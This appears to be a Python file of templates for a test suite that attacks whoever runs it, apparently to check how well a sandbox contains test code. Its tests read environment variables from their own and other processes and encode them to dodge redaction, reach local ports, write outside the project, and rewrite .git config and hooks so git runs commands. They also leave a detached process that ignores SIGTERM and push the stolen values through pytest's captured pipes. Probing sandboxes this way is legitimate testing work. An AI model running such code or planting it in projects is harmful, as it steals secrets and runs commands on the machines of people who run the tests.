"""The files of a repository whose tests attack whoever runs them and say what they achieved.

They reach for marked files, ports and variables of one test alone, so that they may succeed on a person's machine.
"""

TARGETS = """\
import json
import os
import subprocess
import sys
from pathlib import Path

AT = json.loads({targets!r})
LOOP = "import signal, time\\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\\nwhile True: time.sleep(0.2)"


def report(name, found):
    print(f"attack {{name}} " + (f"achieved: {{found}}" if found else "refused"))
    assert not found, f"{{name}} achieved"


def pipes():
    # pytest captures what tests print: the pipe of whoever runs us is the one it has put aside
    found = {{}}
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{{name}}")
            if target.startswith("pipe:"):
                found[target] = int(name)
        except OSError:
            pass
    return list(found.values())


def attempt(action):
    try:
        return action()
    except OSError as error:
        print(f"{{type(error).__name__}}: {{error}}")
        return None


def stolen():
    # our own variables and those of every process we may look at, in forms a redactor does not know
    rows = [f"{{name}}={{value}}" for name, value in os.environ.items()]
    for folder in Path("/proc").glob("[0-9]*"):
        raw = attempt((folder / "environ").read_bytes) or b""
        if AT["mark"].encode() in raw:
            rows += raw.decode(errors="replace").split(chr(0))
    pairs = sorted({{tuple(row.split("=", 1)) for row in rows if row.partition("=")[0] in AT["variables"]}})
    forms = [form for _, value in pairs for form in (value, value[::-1], value.encode().hex())]
    return [name for name, _ in pairs], "\\n".join(forms)


def endless():
    held = pipes()
    child = subprocess.Popen([sys.executable, "-c", LOOP, AT["mark"]], start_new_session=True, pass_fds=held)
    return child, held
"""

TESTS = """\
import os
import shutil
import socket
import subprocess
from pathlib import Path

from targets import AT, attempt, endless, report, stolen


def test_print_the_environment():
    print(dict(os.environ))
    names, text = stolen()
    print(text)
    report("environment", names)


def test_open_a_socket():
    found = []
    for name, port in AT["ports"].items():
        connection = attempt(lambda: socket.create_connection(("127.0.0.1", port), 2))
        if connection:
            with connection:
                connection.sendall(f"PING {AT['mark']}\\r\\n".encode())
                found.append(name)
    report("socket", found)


def test_write_outside():
    found = []
    for place in (Path(AT["outside"]), Path(AT["data"]), Path("..")):
        target = place / f"written-{AT['mark']}"
        if attempt(lambda: target.write_text("x")):
            found.append(str(place))
    attempt(lambda: Path("/tmp", f"written-{AT['mark']}").write_text("x"))  # a private one may be written to
    report("outside", found)


def test_read_the_mirror():
    mirrors = attempt(lambda: list(Path(AT["data"], "mirrors").iterdir())) or []
    found = [str(mirror) for mirror in mirrors if attempt((mirror / "config").read_text)]
    for above in Path.cwd().parents:
        borrowed = attempt((above / "scratch.git/objects/info/alternates").read_text)
        found += [borrowed.strip()] if borrowed else []
    for words in (["remote", "-v"], ["for-each-ref", "refs/remotes"]):
        told = subprocess.run(["git", *words], capture_output=True, text=True)
        found += [told.stdout.strip()] if told.stdout else []
    report("mirror", found)


def swap():
    if os.path.isdir(".git"):
        shutil.rmtree(".git")
    elif os.path.exists(".git"):
        os.remove(".git")
    for folder in ("objects", "refs", "hooks"):
        os.makedirs(f".git/{folder}")
    evil = f"touch {AT['pwned']}"
    config = ["[core]", "repositoryformatversion = 0", f"fsmonitor = {evil}", f"sshCommand = {evil}", f"pager = {evil}"]
    config += ['[filter "evil"]', f"smudge = {evil}", f"clean = {evil}", "[diff]", f"external = {evil}"]
    config += ["[credential]", f'helper = "!{evil}"', "[gpg]", f"program = {AT['pwned']}"]
    Path(".git/config").write_text("\\n".join(config) + "\\n")
    Path(".git/HEAD").write_text("ref: refs/heads/main\\n")
    for name in ("post-checkout", "post-index-change", "pre-commit", "pre-push", "reference-transaction"):
        hook = Path(f".git/hooks/{name}")
        hook.write_text(f"#!/bin/sh\\n{evil}\\n")
        hook.chmod(0o755)


def test_swap_git():
    attempt(lambda: os.rename(".git", "git-aside"))
    attempt(swap)
    config = attempt(Path(".git/config").read_text) or ""
    report("swap", AT["pwned"] in config)


def test_leave_an_endless_grandchild():
    child, held = endless()
    # whether it outlives us is for others to see
    print(f"attack grandchild achieved: started, holds {len(held)} pipes")
    assert child.poll() is None
"""

ENDLESS = """\
import os
import signal
import time

from targets import attempt, endless, stolen


def test_never_ends():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    _, held = endless()
    _, text = stolen()
    for pipe in held:  # past pytest's capture, which a suite that is killed never shows
        attempt(lambda: os.write(pipe, f"\\nand its parent never ends\\n{text}".encode()))
    while True:
        time.sleep(0.2)
"""
